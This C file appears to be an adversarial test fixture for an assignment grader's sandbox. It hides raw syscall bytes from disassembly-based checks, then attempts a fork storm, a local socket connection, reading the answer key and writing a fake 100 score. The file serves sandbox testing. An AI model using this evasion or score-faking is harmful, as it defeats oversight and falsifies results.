/* tests/adversarial/raw_syscall_hidden: see expect.toml.
 *
 * No asm keyword and no banned symbol: the machine code of a raw system
 * call is a const array placed in an executable section. Its `syscall`
 * instruction hides inside the immediate of a `mov` that a linear-sweep
 * disassembler (objdump -d) decodes instead, so the grader's check of raw
 * syscall instructions does not see it either. The worker then tries, from
 * inside the sandbox: a bounded fork storm, a TCP connection to the runner's
 * listener on 127.0.0.1, reading the kit's solutions, writing a file. It
 * reports what worked on stderr and finally answers correctly. */
#include <stdio.h>
#include <string.h>
#include "assignment.h"

/* long raw(long nr, long a1, long a2, long a3) */
__attribute__((section(".text.hidden"), aligned(16)))
const unsigned char raw_code[] = {
    0x48, 0x89, 0xf8,             /* mov rax, rdi */
    0x48, 0x89, 0xf7,             /* mov rdi, rsi */
    0x48, 0x89, 0xd6,             /* mov rsi, rdx */
    0x48, 0x89, 0xca,             /* mov rdx, rcx */
    0xeb, 0x01,                   /* jmp +1 (over the 0xb8) */
    0xb8, 0x0f, 0x05, 0xc3, 0x90, /* objdump: mov eax, 0x90c3050f; the CPU: syscall; ret */
};
typedef long (*raw_fn)(long, long, long, long);

static int tried;

static void attack(void)
{
    raw_fn raw = (raw_fn)(const void *)raw_code;
    long pid = raw(39, 0, 0, 0);                       /* getpid */
    fprintf(stderr, "HIDDEN-SYSCALL getpid=%ld\n", pid);
    int forked = 0;
    for (int i = 0; i < 100; i++) {                    /* bounded fork storm */
        long r = raw(57, 0, 0, 0);                     /* fork */
        if (r == 0) {                                  /* child: sleep 60 s, then exit */
            long ts[2] = {60, 0};
            raw(35, (long)ts, 0, 0);
            raw(60, 0, 0, 0);
        }
        if (r < 0) break;
        forked++;
    }
    fprintf(stderr, "HIDDEN-SYSCALL forked=%d\n", forked);
    long fd = raw(41, 2, 1, 0);                        /* socket(AF_INET, SOCK_STREAM) */
    unsigned char sa[16] = {2, 0, 0, 0, 127, 0, 0, 1};  /* AF_INET, port below, 127.0.0.1 */
    sa[2] = (unsigned char)(47613 >> 8); sa[3] = (unsigned char)(47613 & 0xff);
    long c = fd >= 0 ? raw(42, fd, (long)sa, 16) : -1; /* connect */
    fprintf(stderr, "HIDDEN-SYSCALL socket=%ld connect=%ld\n", fd, c);
    long o = raw(2, (long)"/work/main/solutions/a1_windows.c", 0, 0);   /* open */
    fprintf(stderr, "HIDDEN-SYSCALL open-solutions=%ld\n", o);
    long w = raw(2, (long)"/tmp/results.json", 0101 | 01000, 0644);  /* O_WRONLY|O_CREAT|O_TRUNC */
    if (w >= 0) raw(1, w, (long)"{\"score\": 100}\n", 15);
    fprintf(stderr, "HIDDEN-SYSCALL write-tmp=%ld\n", w);
}

int im_conv_fast(const cl_image *img, const cl_image *kernel, cl_image *out)
{
    if (!tried) { tried = 1; attack(); }
    int st = cl_image_check(img, "img");
    if (st != CL_OK) return st;
    st = cl_image_check(kernel, "kernel");
    if (st != CL_OK) return st;
    if (!out) return cl_fail(CL_E_ARG, "out is NULL");
    if (img->n != 1) return cl_fail(CL_E_SHAPE, "n must be 1");
    if (kernel->n != 1 || kernel->c != 1) return cl_fail(CL_E_SHAPE, "kernel must be 1 x kh x kw x 1");
    const int kh = kernel->h, kw = kernel->w;
    if (kh > img->h || kw > img->w) return cl_fail(CL_E_SHAPE, "kernel larger than the image");
    const int OH = img->h - kh + 1, OW = img->w - kw + 1, C = img->c;
    st = cl_image_alloc(out, 1, OH, OW, C);
    if (st != CL_OK) return st;
    for (int y = 0; y < OH; y++)
        for (int x = 0; x < OW; x++)
            for (int ch = 0; ch < C; ch++) {
                float sum = 0.0f;
                for (int i = 0; i < kh; i++)
                    for (int j = 0; j < kw; j++)
                        sum += *cl_px(img, 0, y + i, x + j, ch) * *cl_px(kernel, 0, i, j, 0);
                *cl_px(out, 0, y, x, ch) = sum;
            }
    return CL_OK;
}
